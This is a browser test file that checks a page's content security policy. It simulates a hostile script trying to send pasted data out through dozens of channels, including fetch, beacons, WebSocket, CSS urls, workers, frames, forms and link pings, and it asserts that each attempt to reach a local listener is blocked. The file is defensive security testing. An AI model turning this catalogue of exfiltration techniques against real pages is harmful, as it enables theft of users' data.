// A hostile script in the page (an extension's, say) holds what somebody pasted. What it tries to send it to is told apart
// by path. Each way is blocked, or SECURITY.md lists it with its reason.
import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { after, before, test } from "node:test";

import { ENGINE, launch, open } from "./browser.mjs";

/** So long after the last attempt whatever is going to be sent was sent, in milliseconds; where it must come, it may take longer. */
const PATIENCE = { nothing: 700, something: 20_000 };
const SECURITY = readFileSync(new URL("../../SECURITY.md", import.meta.url), "utf8");

/** What the policy blocks. `to`: an address of the listener, without its scheme; `port`: where it hears datagrams. */
const BLOCKED = {
  fetch: (to) => fetch(`http://${to}`, { mode: "no-cors" }),
  "fetch that outlives the page": (to) => fetch(`http://${to}`, { mode: "no-cors", method: "POST", body: "x", keepalive: true }),
  XMLHttpRequest: (to) => { const request = new XMLHttpRequest(); request.open("GET", `http://${to}`); request.send(); },
  beacon: (to) => navigator.sendBeacon(`http://${to}`, "x"),
  WebSocket: (to) => new WebSocket(`ws://${to}`),
  EventSource: (to) => new EventSource(`http://${to}`),
  WebTransport: (_, port) => new WebTransport(`https://127.0.0.1:${port}/`),
  image: (to) => { new Image().src = `http://${to}`; },
  "image of a set": (to) => put("img", { srcset: `http://${to} 2x` }),
  "image in SVG": (to) => putSvg("image", `http://${to}`),
  "use in SVG": (to) => putSvg("use", `http://${to}#x`),
  "background of an element": (to) => { document.body.style.backgroundImage = `url(http://${to})`; },
  "cursor of a rule": (to) => rule(`* { cursor: url(http://${to}), auto }`),
  "font of a rule": (to) => { rule(`@font-face { font-family: hostile; src: url(http://${to}) }`); document.body.style.fontFamily = "hostile"; },
  font: (to) => new FontFace("x", `url(http://${to})`).load(),
  icon: (to) => link("icon", to),
  "style sheet": (to) => link("stylesheet", to),
  manifest: (to) => link("manifest", to),
  prefetch: (to) => link("prefetch", to),
  preload: (to) => link("preload", to, { as: "fetch" }),
  "preload of a module": (to) => link("modulepreload", to),
  "rules of speculation": (to) => put("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [`http://${to}`] }] }) }),
  script: (to) => put("script", { src: `http://${to}` }),
  module: (to) => import(`http://${to}`),
  worker: (to) => new Worker(`http://${to}`),
  "worker from a blob": (to) => new Worker(URL.createObjectURL(new Blob([`fetch("http://${to}")`]))),
  "shared worker": (to) => new SharedWorker(URL.createObjectURL(new Blob([`fetch("http://${to}")`]))),
  "service worker": (to) => navigator.serviceWorker.register(`http://${to}`),
  frame: (to) => put("iframe", { src: `http://${to}` }),
  "frame from a blob": (to) => put("iframe", { src: URL.createObjectURL(new Blob([`<img src="http://${to}">`], { type: "text/html" })) }),
  "markup in a frame": (to) => put("iframe", { srcdoc: `<img src="http://${to}">` }),
  "an empty frame's fetch": (to) => put("iframe", {}).contentWindow.fetch(`http://${to}`, { mode: "no-cors" }),
  "an empty frame's image": (to) => { new (put("iframe", {}).contentWindow.Image)().src = `http://${to}`; },
  object: (to) => put("object", { data: `http://${to}` }),
  embed: (to) => put("embed", { src: `http://${to}` }),
  video: (to) => put("video", { src: `http://${to}` }),
  poster: (to) => put("video", { poster: `http://${to}` }),
  audio: (to) => put("audio", { src: `http://${to}` }),
  track: (to) => { const video = put("video", {}); video.append(Object.assign(document.createElement("track"), { src: `http://${to}`, default: true })); video.textTracks[0].mode = "showing"; },
  form: (to) => { put("iframe", { name: "inner" }); put("form", { action: `http://${to}`, method: "post", target: "inner" }).submit(); },
  ping: (to) => { const a = put("a", { href: "#", ping: `http://${to}` }); a.click(); },
  markup: (to) => { document.body.innerHTML += `<img src="http://${to}">`; },
  "markup at a place": (to) => document.body.insertAdjacentHTML("beforeend", `<img src="http://${to}">`),
  "written markup": (to) => document.write(`<img src="http://${to}">`),
};

/** What an engine does not do on any page, and so proves nothing. */
const NEVER = { chromium: [], firefox: ["manifest", "rules of speculation", "ping"] }[ENGINE];

/** What no policy in a page can forbid: the words in SECURITY.md that say so and, where a listener can hear of it, the attempt. */
const RESIDUALS = {
  navigation: ["another address", (to) => { location.href = `http://${to}`; }],
  "refresh of the page": ["`refresh`", (to) => document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=http://${to}` }))],
  "a link that is followed": ["another address", (to) => put("a", { href: `http://${to}` }).click()],
  "a new window": ["new window", (to) => open(`http://${to}`)],
  download: ["download", (to) => put("a", { href: `http://${to}`, download: "x" }).click()],
  "a connection in advance": ["connection in advance"],
  "look-up of a name": ["the name of the host is looked up"],
  WebRTC: ["WebRTC", async (_, port) => { const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] }); peer.createDataChannel("x"); await peer.setLocalDescription(await peer.createOffer()); }],
  "a message to a page around it": ["post messages"],
  clipboard: ["clipboard"],
  storage: ["`localStorage`"],
};

/** What the attempts share, in the page. */
const HELPERS = `
  const put = (name, properties) => { const made = Object.assign(document.createElement(name), properties); document.body.append(made); return made; };
  const putSvg = (name, href) => { const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg"); const made = document.createElementNS(svg.namespaceURI, name); made.setAttribute("href", href); svg.append(made); document.body.append(svg); };
  const rule = (text) => { const sheet = new CSSStyleSheet(); sheet.insertRule(text); document.adoptedStyleSheets.push(sheet); };
  const link = (rel, to, more = {}) => document.head.append(Object.assign(document.createElement("link"), { rel, href: "http://" + to, ...more }));
`;

let browser, server, udp, address;
/** The paths that were asked for, and how many datagrams came. */
const heard = { paths: [], datagrams: 0 };
before(async () => {
  browser = await launch();
  // A connection alone is not noted: a browser may open one before it looks at the policy, and sends nothing through it.
  server = createServer(({ url }, response) => {
    heard.paths.push(url);
    response.writeHead(200, { "Content-Type": "text/html" }).end("<!doctype html><title>listener</title><body>");
  });
  server.on("upgrade", ({ url }, socket) => {
    heard.paths.push(url);
    socket.destroy();
  });
  await once(server.listen(0, "127.0.0.1"), "listening");
  address = `127.0.0.1:${server.address().port}`;
  udp = createSocket("udp4", () => (heard.datagrams += 1));
  udp.bind(0, "127.0.0.1");
  await once(udp, "listening");
});
after(async () => {
  await browser?.close();
  server?.closeAllConnections();
  server?.close();
  udp?.close();
});
const arrived = (path) => (path.endsWith("/WebTransport") ? heard.datagrams > 0 : heard.paths.includes(path));

/** Tries it as a script of the page would, and does not wait for what may never come. */
const attempt = (page, path, run) =>
  page.evaluate(`(() => { ${HELPERS} Promise.resolve().then(() => (${run})(${JSON.stringify(address + path)}, ${udp.address().port})).catch(() => {}); })()`);

const waited = () => new Promise((resolve) => setTimeout(resolve, PATIENCE.nothing));

/** `/blocked/…` and the like. */
const pathOf = (folder, name) => `/${folder}/${encodeURIComponent(name)}`;

test("the policy blocks", async (t) => {
  const page = await open(browser);
  for (const [name, run] of Object.entries(BLOCKED)) await attempt(page, pathOf("blocked", name), run);
  await waited();
  // Had one of them led away from the page, those after it would not have been tried.
  assert.ok(await page.evaluate(() => document.querySelector("oidc-page") !== null));
  for (const name of Object.keys(BLOCKED)) await t.test(name, () => assert.ok(!arrived(pathOf("blocked", name))));
  await page.close();
});

test("on a page without a policy the listener hears every one of them", async () => {
  const page = await browser.newPage();
  await page.goto(`http://${address}/plain`);
  for (const [name, run] of Object.entries(BLOCKED)) await attempt(page, pathOf("plain", name), run);
  const end = Date.now() + PATIENCE.something;
  const missing = () => Object.keys(BLOCKED).filter((name) => !NEVER.includes(name) && !arrived(pathOf("plain", name)));
  while (missing().length > 0 && Date.now() < end) await new Promise((resolve) => setTimeout(resolve, 50));
  assert.deepEqual(missing(), []);
  await page.close();
});

for (const [name, [words, run]] of Object.entries(RESIDUALS)) {
  test(`SECURITY.md lists: ${name}`, async (t) => {
    assert.ok(SECURITY.includes(words), words);
    if (run === undefined) return;
    const page = await open(browser);
    const { datagrams } = heard;
    // Leading the page away ends the evaluation in it.
    await attempt(page, pathOf("listed", name), run).catch(() => {});
    await waited();
    t.diagnostic(arrived(pathOf("listed", name)) || heard.datagrams > datagrams ? "the listener heard of it" : "the listener heard nothing");
    await page.close();
  });
}
